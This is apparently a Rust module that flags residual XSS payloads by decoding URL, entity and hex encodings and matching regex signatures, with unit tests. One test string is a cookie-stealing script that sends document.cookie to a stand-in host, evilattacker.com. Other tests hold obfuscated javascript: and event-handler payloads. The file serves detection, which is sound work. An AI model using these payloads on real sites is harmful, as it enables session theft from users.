//! xss.rs - Heuristic detection of residual XSS payloads.
//!
//! Attackers hide payloads behind URL encoding, numeric character references
//! and inserted whitespace. A value is normalised through each of those layers
//! and every signature is tested against both the normalised and the original
//! form; a hit on either makes the value dangerous.
//!
//! License: MIT OR APACHE 2.0

use log::debug;
use once_cell::sync::Lazy;
use regex::{Captures, Regex};
use std::borrow::Cow;

use crate::sanitizers::compiler::compile_patterns_lossy;

/// The built-in signature set, in delimited pattern form.
pub const DEFAULT_XSS_PATTERNS: &[&str] = &[
    // any attribute starting with "on" or xmlns
    r#"#(<[^>]+[\x00-\x20"'/])(on|xmlns)[^>]*>?#iU"#,
    // javascript:, livescript:, vbscript: and mocha: protocols
    r"!((java|live|vb)script|mocha):(\w)*!iU",
    r"#-moz-binding[\x00-\x20]*:#",
    // style attributes
    r#"#(<[^>]+[\x00-\x20"'/])style=[^>]*>?#iU"#,
    // unneeded tags
    r"#</*(applet|meta|xml|blink|link|style|script|embed|object|iframe|frame|frameset|ilayer|layer|bgsound|title|base)[^>]*>?#i",
];

static HEX_REFERENCE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?:&#|\\)[xX]([0-9a-fA-F]+);?").expect("static regex"));

static UNTERMINATED_NUMERIC: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"&#(0+[0-9]+);?").expect("static regex"));

static QUOTE_ENTITY: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)&(?:quot|apos|#0*34|#0*39);").expect("static regex"));

static DEFAULT_SIGNATURES: Lazy<XssSignatureSet> = Lazy::new(|| {
    let patterns: Vec<String> = DEFAULT_XSS_PATTERNS.iter().map(|p| p.to_string()).collect();
    XssSignatureSet::from_patterns(&patterns)
});

/// Ordered, compiled attack signatures.
#[derive(Debug, Clone, Default)]
pub struct XssSignatureSet {
    patterns: Vec<Regex>,
}

impl XssSignatureSet {
    /// Compiles signatures; patterns that fail to compile are logged and skipped.
    pub fn from_patterns(patterns: &[String]) -> Self {
        Self {
            patterns: compile_patterns_lossy(patterns, "xss"),
        }
    }

    /// The built-in set.
    pub fn builtin() -> &'static XssSignatureSet {
        &DEFAULT_SIGNATURES
    }

    pub fn len(&self) -> usize {
        self.patterns.len()
    }

    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }

    pub fn iter(&self) -> impl Iterator<Item = &Regex> {
        self.patterns.iter()
    }
}

/// Returns true if `value` still looks like an XSS payload.
///
/// Empty values and empty signature sets are never dangerous.
pub fn is_dangerous(value: &str, signatures: &XssSignatureSet) -> bool {
    if value.is_empty() || signatures.is_empty() {
        return false;
    }
    let normalized = normalize(value);
    let hit = signatures
        .iter()
        .position(|sig| sig.is_match(&normalized) || sig.is_match(value));
    if let Some(index) = hit {
        debug!("XSS signature #{} matched.", index);
    }
    hit.is_some()
}

/// Undoes the encodings attackers use to hide payloads.
pub fn normalize(value: &str) -> String {
    let decoded = url_decode(value);
    let decoded = HEX_REFERENCE.replace_all(&decoded, |caps: &Captures| {
        u32::from_str_radix(&caps[1], 16)
            .ok()
            .and_then(char::from_u32)
            .map(String::from)
            .unwrap_or_else(|| caps[0].to_string())
    });
    let terminated = UNTERMINATED_NUMERIC.replace_all(&decoded, "&#$1;");
    let entities = decode_entities_except_quotes(&terminated);
    entities.chars().filter(|c| !c.is_whitespace()).collect()
}

/// `+` becomes a space and `%XX` a byte; invalid UTF-8 is replaced lossily.
fn url_decode(value: &str) -> String {
    let plus_decoded = value.replace('+', " ");
    match urlencoding::decode(&plus_decoded) {
        Ok(decoded) => decoded.into_owned(),
        Err(_) => {
            let bytes = urlencoding::decode_binary(plus_decoded.as_bytes());
            String::from_utf8_lossy(&bytes).into_owned()
        }
    }
}

/// Decodes HTML entities, leaving quote entities encoded.
fn decode_entities_except_quotes(value: &str) -> Cow<'_, str> {
    if !QUOTE_ENTITY.is_match(value) {
        return html_escape::decode_html_entities(value);
    }
    let mut out = String::with_capacity(value.len());
    let mut last = 0;
    for quote in QUOTE_ENTITY.find_iter(value) {
        out.push_str(&html_escape::decode_html_entities(&value[last..quote.start()]));
        out.push_str(quote.as_str());
        last = quote.end();
    }
    out.push_str(&html_escape::decode_html_entities(&value[last..]));
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dangerous(value: &str) -> bool {
        is_dangerous(value, XssSignatureSet::builtin())
    }

    #[test]
    fn test_script_payloads() {
        let v = "foobar<script>document.write('<iframe src=\"http://evilattacker.com?cookie='\n + document.cookie.escape() + '\" height=0 width=0 />');</script>foobar";
        assert!(dangerous(v));
        assert!(dangerous("foobar <script>...foobar"));
        assert!(!dangerous("foobar script...foobar"));
    }

    #[test]
    fn test_style_attribute() {
        assert!(dangerous(r##"foobar <a href="#" style="badstuff">foo</a>bar"##));
        assert!(dangerous(r#"<a style="x">"#));
        assert!(!dangerous(r##"foobar <a href="#" class="badstuff">foo</a>bar"##));
    }

    #[test]
    fn test_data_protocol_is_not_flagged() {
        assert!(!dangerous("foobar data:100 yxz"));
        assert!(!dangerous("data:100"));
    }

    #[test]
    fn test_script_protocols() {
        assert!(dangerous("javascript:foobar"));
        assert!(dangerous("foobar javascript:foobar xyz"));
        assert!(dangerous("foobarjavascript:foobarxyz"));
        assert!(dangerous("foobarvbscript:foobarxyz"));
        assert!(dangerous("foobarlivescript:foobarxyz"));
        assert!(dangerous("foobarmocha:foobarxyz"));
        assert!(!dangerous("foobarscript:foobarxyz"));
        assert!(!dangerous("foobar javascript=foobar xyz"));
        assert!(!dangerous("foobar javascript xyz"));
    }

    #[test]
    fn test_obfuscated_payloads() {
        assert!(dangerous("java script:alert(1)"));
        assert!(dangerous("javascript%3Aalert(1)"));
        assert!(dangerous("&#x6A;avascript:alert(1)"));
        assert!(dangerous("&lt;script&gt;alert(1)"));
        assert!(dangerous(r"\x6A;avascript:alert(1)"));
        assert!(dangerous("<a href=x onmouseover=alert(1)>"));
        assert!(dangerous("-moz-binding :url(x)"));
    }

    #[test]
    fn test_benign_values() {
        for v in [
            "input cleaner",
            "valid@example.com",
            "!@#$%^&*()",
            "http://example.com/funky?something=1#anchor",
            "foobar &nbsp; entities allowed",
            "foobar &lt;a href=&quot;#&quot;&gt;escaped&lt;/a&gt;",
            r##"foobar <a href="#" class="css">link</a> foobar"##,
        ] {
            assert!(!dangerous(v), "flagged {:?}", v);
        }
    }

    #[test]
    fn test_empty_inputs() {
        assert!(!dangerous(""));
        assert!(!is_dangerous("javascript:x", &XssSignatureSet::default()));
    }

    #[test]
    fn test_normalize_stages() {
        assert_eq!(normalize("a+b%20c"), "abc");
        assert_eq!(normalize("&#x41;&#0066"), "AB");
        assert_eq!(normalize("&lt;b&gt;"), "<b>");
        assert_eq!(normalize("&quot;x&quot;"), "&quot;x&quot;");
    }
}
